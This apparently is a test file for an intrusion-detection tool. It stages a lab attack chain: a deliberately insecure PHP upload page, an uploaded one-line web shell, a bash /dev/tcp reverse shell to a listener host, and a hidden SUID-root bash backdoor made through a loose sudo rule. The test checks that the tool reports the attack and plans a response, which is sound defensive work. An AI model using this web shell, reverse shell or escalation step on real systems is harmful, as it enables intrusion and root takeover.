/** (b) A page that takes any upload: a web shell, commands through it, a reverse shell, and a shell with root's bit that a careless sudo rule let them make. */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { lacksKernel } from '../live/kernel.ts';
import { lacksScenario } from '../scenario-host.ts';
import { reported } from './report.ts';
import { attacker, depot, hostAddress, ordinaryLoad, prove, type Scene, says, startScene, visitor } from './scene.ts';

const uploads = '/var/www/html/uploads';
const page = '<?php if (isset($_FILES["f"])) { move_uploaded_file($_FILES["f"]["tmp_name"], __DIR__ . "/uploads/" . basename($_FILES["f"]["name"])); echo "thank you\\n"; } else { echo "<form method=post enctype=multipart/form-data><input type=file name=f></form>\\n"; }\n';
const shell = '<?php echo shell_exec($_POST["c"]); ?>\n';

describe.skipIf(lacksScenario(['/usr/sbin/nginx', '/usr/sbin/php-fpm8.2', '/usr/sbin/rsyslogd', '/usr/sbin/cron', '/usr/bin/socat', '/usr/bin/sudo']) || await lacksKernel())('(b) vulnerable page, web shell, reverse shell, SUID backdoor', () => {
  let scene: Scene;
  const web = async (from: string, path: string, ...args: string[]): Promise<string> => (await scene.host.outside('/usr/bin/curl', ['-s', '--max-time', '20', '--interface', from, ...args, `http://${hostAddress}${path}`])).stdout;

  beforeAll(async () => {
    scene = await startScene({
      async ready(host) {
        host.plant('/var/www/html/index.php', '<?php echo "welcome ", date("Y"), "\\n";\n');
        host.plant('/var/www/html/upload.php', page);
        await host.must('install', '-d', '-o', 'www-data', '-g', 'www-data', uploads);
        host.plant('/etc/sudoers.d/site', 'www-data ALL=(root) NOPASSWD: /usr/bin/install\n', { mode: 0o440 });
        host.plant('/etc/php/8.2/fpm/pool.d/www.conf', '[www]\nuser = www-data\ngroup = www-data\nlisten = /run/php.sock\nlisten.mode = 0666\npm = static\npm.max_children = 3\n');
        host.plant('/etc/nginx/nginx.conf', 'user www-data;\npid /run/nginx.pid;\nevents {}\nhttp { access_log /var/log/nginx/access.log; error_log /var/log/nginx/error.log; server { listen 80; root /var/www/html; location ~ \\.php$ { include /etc/nginx/fastcgi_params; fastcgi_param SCRIPT_FILENAME $document_root$fastcgi_script_name; fastcgi_pass unix:/run/php.sock; } } }\n');
        await host.service('php8.2-fpm', '[Service]\nType=notify\nRuntimeDirectory=php\nExecStart=/usr/sbin/php-fpm8.2 --nodaemonize\n');
        await host.service('nginx', '[Service]\nExecStart=/usr/sbin/nginx -g "daemon off;"\n');
        await ordinaryLoad(host);
      },
    });
    for (let i = 0; i < 5; i++) expect(await web(visitor, '/index.php')).toContain('welcome');
  });
  afterAll(async () => { await scene?.end(); });

  it('is one incident from the upload to the backdoor, and ends with its plan', async () => {
    const { host } = scene;
    const form = ['-F', 'f=@-;filename=logo.php'];
    expect((await scene.host.outside('/usr/bin/curl', ['-s', '--interface', attacker, ...form, `http://${hostAddress}/upload.php`], { input: shell })).stdout).toContain('thank you');
    expect(await web(attacker, '/uploads/logo.php', '--data-urlencode', 'c=id; uname -a')).toContain('www-data');
    await web(visitor, '/index.php');
    // Whoever listens for the shell types one command and goes.
    const listener = host.beginOutside('/usr/bin/socat', ['-d', '-d', `TCP-LISTEN:4444,bind=${depot},reuseaddr`, 'STDIO']);
    await says(listener, 'listening on');
    const heard = says(listener, 'planted');
    host.beginOutside('/usr/bin/curl', ['-s', '--interface', attacker, `http://${hostAddress}/uploads/logo.php`, '--data-urlencode', `c=bash -c 'bash -i >& /dev/tcp/${depot}/4444 0>&1'`]);
    await says(listener, 'accepting connection');
    listener.stdin!.write('sudo install -m 4755 /bin/bash /usr/local/bin/.backup-agent; echo plan""ted\n');
    await heard;
    const { incident, plan } = await prove(scene, {
      entry: { kind: 'web', address: attacker, request: 'POST /upload.php' }, level: 'critical', grade: 2,
      steps: [
        'freeze-tree process', `block-address ${attacker}`, `block-address ${depot}`, `quarantine-file ${uploads}/logo.php`, 'quarantine-file /usr/local/bin/.backup-agent', 'kill-tree process',
      ],
      checks: ['setuid', 'cron', 'sudo'], running: /\/dev\/tcp|bash -i/,
    });
    reported(scene, incident, plan, { says: [attacker, depot, `${uploads}/logo.php`, '/usr/local/bin/.backup-agent'] });
  });
});
